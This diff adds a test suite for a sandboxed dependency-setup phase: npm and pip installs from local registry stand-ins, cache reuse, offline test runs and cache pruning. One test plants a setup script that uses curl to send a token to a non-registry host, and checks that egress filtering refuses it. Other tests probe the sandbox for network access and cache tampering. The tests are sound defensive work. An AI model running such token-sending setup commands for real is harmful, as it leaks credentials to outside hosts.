@@ -1,0 +1,204 @@
+/**
+ * The setup phase end to end with real installers (npm, pip) against local registry stand-ins:
+ * install once in the fenced sandbox, reuse the cache, run the project's tests in a task sandbox
+ * that has the dependencies and no network, and fail early and clearly on bad input.
+ */
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { bwrapAvailable } from '../../sandbox/bwrap-driver';
+import { detectCgroups } from '../../sandbox/cgroups';
+import { startNpmStandIn, startPlainServer, startPypiStandIn, type NpmStandIn, type StandIn } from '../../test/support/registries';
+import { CACHE_DIR, pruneCache, readEntry } from './cache';
+import { ensureEnvironment, type EnvSetupOptions } from './setup';
+import { createDepsSandbox } from './task-sandbox';
+
+const skip = !bwrapAvailable() || detectCgroups().version === 0;
+if (skip) console.warn('[setup tests] skipped: bubblewrap with usable cgroups is needed');
+
+/** A stand-in `ms` written here: parses "<n>s" and "<n>m" like the real one's simplest cases. */
+export const MS_SOURCE = `module.exports = function ms(s) {
+  const m = /^(\\d+)(s|m)$/.exec(String(s));
+  if (!m) return undefined;
+  return Number(m[1]) * (m[2] === 's' ? 1000 : 60000);
+};
+`;
+export const MS_TEST = `const assert = require('node:assert');
+const ms = require('ms');
+assert.strictEqual(ms('2s'), 2000);
+assert.strictEqual(ms('1m'), 60000);
+console.log('ms tests passed');
+`;
+
+const roots: string[] = [];
+function dir(prefix: string): string {
+  const d = mkdtempSync(join(tmpdir(), prefix));
+  roots.push(d);
+  return d;
+}
+function write(root: string, files: Record<string, string>): string {
+  for (const [rel, text] of Object.entries(files)) {
+    mkdirSync(dirname(join(root, rel)), { recursive: true });
+    writeFileSync(join(root, rel), text);
+  }
+  return root;
+}
+
+describe.skipIf(skip)('setup phase (bwrap)', () => {
+  let npm: NpmStandIn;
+  let pypi: StandIn;
+  let other: StandIn;
+  let dataDir: string;
+  const lines: string[] = [];
+  let base: () => Omit<EnvSetupOptions, 'workspaceDir' | 'projectKey'>;
+
+  beforeAll(async () => {
+    npm = await startNpmStandIn([{ name: 'ms', version: '2.1.3', files: { 'index.js': MS_SOURCE } }]);
+    pypi = await startPypiStandIn([{ name: 'nsgreet', version: '1.0', files: { 'nsgreet/__init__.py': 'def greet(name):\n    return "hello " + name\n' } }]);
+    other = await startPlainServer('internal secrets');
+    dataDir = dir('ns-env-data-');
+    base = () => ({ dataDir, driver: 'bwrap', registries: { urls: { npm: npm.url, pip: pypi.url } }, policyEnv: {}, log: (l) => lines.push(l) });
+  });
+  afterAll(async () => {
+    await npm?.close();
+    await pypi?.close();
+    await other?.close();
+    for (const r of roots) rmSync(r, { recursive: true, force: true });
+  });
+
+  it('installs a JS project once, reuses the cache, and runs its tests offline in a task sandbox', { timeout: 180_000 }, async () => {
+    const deps = { ms: '2.1.3' };
+    const repo = write(dir('ns-env-js-'), {
+      'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node test.js' }, dependencies: deps }),
+      'package-lock.json': npm.lockfile({ name: 'demo', version: '1.0.0', dependencies: deps }),
+      'test.js': MS_TEST,
+    });
+    const first = await ensureEnvironment({ ...base(), projectKey: 'js', workspaceDir: repo });
+    expect(first.error).toBeUndefined();
+    expect(first).toMatchObject({ status: 'ready', cached: false, command: 'npm ci --no-audit --no-fund', stacks: ['npm'] });
+    expect(first.log).toContain(`[egress] allowed 127.0.0.1:${npm.port}`);
+    expect(npm.requests).toContain('/ms/-/ms-2.1.3.tgz');
+    // The checkout itself is untouched: setup ran on a copy.
+    expect(readdirSync(repo).sort()).toEqual(['package-lock.json', 'package.json', 'test.js']);
+
+    const seen = npm.requests.length;
+    const second = await ensureEnvironment({ ...base(), projectKey: 'js', workspaceDir: repo });
+    expect(second).toMatchObject({ status: 'ready', cached: true, cacheKey: first.cacheKey });
+    expect(second.log).toMatch(/from the cache .* no install/);
+    expect(npm.requests.length).toBe(seen);
+
+    const sb = await createDepsSandbox({ driver: 'bwrap', workspaceDir: repo, dataDir, entry: second.entry!, timeoutS: 60 });
+    await sb.start();
+    try {
+      const test = await sb.exec(['npm', 'test']);
+      expect(test.stdout).toContain('ms tests passed');
+      expect(test.exitCode).toBe(0);
+      // No network in the task sandbox: npm says so at once, curl reaches nothing.
+      const view = await sb.exec(['npm', 'view', 'ms', 'version']);
+      expect(view.exitCode).not.toBe(0);
+      expect(view.stderr).toMatch(/ENOTCACHED|ENOTFOUND|EAI_AGAIN/);
+      const curl = await sb.exec(['sh', '-c', `curl -sS --max-time 5 ${npm.url}ms; echo rc=$?`]);
+      expect(curl.stdout).toMatch(/rc=(7|28)/);
+      // The cache cannot be changed through the copy; the copy itself takes new files.
+      const write1 = await sb.exec(['sh', '-c', 'echo tampered >> node_modules/ms/index.js']);
+      expect(write1.exitCode).not.toBe(0);
+      expect((await sb.exec(['sh', '-c', 'mkdir -p node_modules/.cache && touch node_modules/.cache/x'])).exitCode).toBe(0);
+      expect(npm.requests.length).toBe(seen);
+    } finally {
+      await sb.stop();
+    }
+    // The mount point the sandbox needed is gone again; the cache entry is intact.
+    expect(existsSync(join(repo, 'node_modules'))).toBe(false);
+    expect(readEntry(dataDir, 'js', first.cacheKey!)).not.toBeNull();
+    expect(readdirSync(join(dataDir, 'env-scratch'))).toEqual([]);
+  });
+
+  it('a changed lockfile is a new key and a new setup', { timeout: 180_000 }, async () => {
+    const repo = write(dir('ns-env-js2-'), {
+      'package.json': JSON.stringify({ name: 'demo2', version: '1.0.0', dependencies: {} }),
+      'package-lock.json': npm.lockfile({ name: 'demo2', version: '1.0.0', dependencies: {} }),
+    });
+    const a = await ensureEnvironment({ ...base(), projectKey: 'js2', workspaceDir: repo });
+    expect(a.status).toBe('ready');
+    const deps = { ms: '2.1.3' };
+    write(repo, {
+      'package.json': JSON.stringify({ name: 'demo2', version: '1.0.0', dependencies: deps }),
+      'package-lock.json': npm.lockfile({ name: 'demo2', version: '1.0.0', dependencies: deps }),
+    });
+    const b = await ensureEnvironment({ ...base(), projectKey: 'js2', workspaceDir: repo });
+    expect(b).toMatchObject({ status: 'ready', cached: false });
+    expect(b.cacheKey).not.toBe(a.cacheKey);
+    expect(b.entry!.meta.paths).toEqual(['node_modules']);
+  });
+
+  it('installs a Python project into a project-local virtualenv from a PEP 503 index', { timeout: 180_000 }, async () => {
+    const repo = write(dir('ns-env-py-'), {
+      'requirements.txt': 'nsgreet==1.0\n',
+      'test_greet.py': 'import unittest\nimport nsgreet\n\nclass T(unittest.TestCase):\n    def test_greet(self):\n        self.assertEqual(nsgreet.greet("x"), "hello x")\n',
+    });
+    const r = await ensureEnvironment({ ...base(), projectKey: 'py', workspaceDir: repo });
+    expect(r.error).toBeUndefined();
+    expect(r).toMatchObject({ status: 'ready', stacks: ['pip'] });
+    expect(pypi.requests.some((p) => p.endsWith('.whl'))).toBe(true);
+    const sb = await createDepsSandbox({ driver: 'bwrap', workspaceDir: repo, dataDir, entry: r.entry!, timeoutS: 60 });
+    await sb.start();
+    try {
+      const t = await sb.exec(['python', '-m', 'unittest', '-v']);
+      expect(t.stderr).toContain('OK');
+      expect(t.exitCode).toBe(0);
+      const pip = await sb.exec(['sh', '-c', 'pip download nsgreet -d /tmp/x 2>&1; echo rc=$?']);
+      expect(pip.stdout).toMatch(/rc=[1-9]/);
+    } finally {
+      await sb.stop();
+    }
+  });
+
+  it('a lockfile that does not install fails with the installer\'s last lines', { timeout: 180_000 }, async () => {
+    // Locked to a release the registry does not have (a typo'd or unpublished version).
+    const deps = { ms: '2.1.3' };
+    const lock = npm.lockfile({ name: 'bad', version: '1.0.0', dependencies: deps }).replaceAll('2.1.3', '9.9.9');
+    const repo = write(dir('ns-env-bad-'), { 'package.json': JSON.stringify({ name: 'bad', version: '1.0.0', dependencies: { ms: '9.9.9' } }), 'package-lock.json': lock });
+    const r = await ensureEnvironment({ ...base(), projectKey: 'bad', workspaceDir: repo });
+    expect(r.status).toBe('failed');
+    expect(r.error).toMatch(/`npm ci --no-audit --no-fund` exited with \d+/);
+    expect(r.error).toMatch(/E404|404 Not Found/);
+    expect(readEntry(dataDir, 'bad', r.cacheKey!)).toBeNull();
+  });
+
+  it('a setup script reaching a non-registry host is refused, and the log names the host', async () => {
+    const repo = write(dir('ns-env-exfil-'), { '.nightshift/setup.sh': `curl -fsS http://127.0.0.1:${other.port}/collect?token=x || exit 3\n` });
+    const r = await ensureEnvironment({ ...base(), projectKey: 'exfil', workspaceDir: repo });
+    expect(r.status).toBe('failed');
+    expect(r.error).toContain(`refused non-registry hosts: 127.0.0.1:${other.port}`);
+    expect(r.log).toContain(`[egress] REFUSED GET 127.0.0.1:${other.port}`);
+    expect(other.requests).toEqual([]);
+  });
+
+  it('a setup that exceeds its limits is stopped and says which', async () => {
+    const repo = write(dir('ns-env-slow-'), { '.nightshift/setup.sh': 'echo starting; sleep 60\n' });
+    const r = await ensureEnvironment({ ...base(), projectKey: 'slow', workspaceDir: repo, limits: { timeoutS: 2 } });
+    expect(r.status).toBe('failed');
+    expect(r.error).toMatch(/exceeded its 2 s limit/);
+    expect(r.error).toContain('starting');
+  });
+
+  it('a repository with no recognisable stack needs no setup', async () => {
+    const repo = write(dir('ns-env-none-'), { 'main.c': 'int main(void) { return 0; }\n' });
+    const r = await ensureEnvironment({ ...base(), projectKey: 'none', workspaceDir: repo });
+    expect(r).toMatchObject({ status: 'none', command: null, cacheKey: null });
+    expect(r.log).toMatch(/no recognisable stack/);
+  });
+
+  it('prunes entries unused for too long, then the oldest beyond the size budget', () => {
+    const entries = readdirSync(join(dataDir, CACHE_DIR)).flatMap((p) => readdirSync(join(dataDir, CACHE_DIR, p)).filter((k) => !k.startsWith('.')).map((k) => join(dataDir, CACHE_DIR, p, k)));
+    expect(entries.length).toBeGreaterThanOrEqual(3);
+    const old = new Date(Date.now() - 30 * 24 * 3600_000);
+    utimesSync(join(entries[0], 'meta.json'), old, old);
+    const r1 = pruneCache(dataDir, { maxAgeMs: 7 * 24 * 3600_000 });
+    expect(r1.removed).toEqual([entries[0]]);
+    const r2 = pruneCache(dataDir, { maxBytes: 0, keep: [entries[1]] });
+    expect(r2.removed.sort()).toEqual(entries.slice(2).sort());
+    expect(existsSync(entries[1])).toBe(true);
+  });
+});
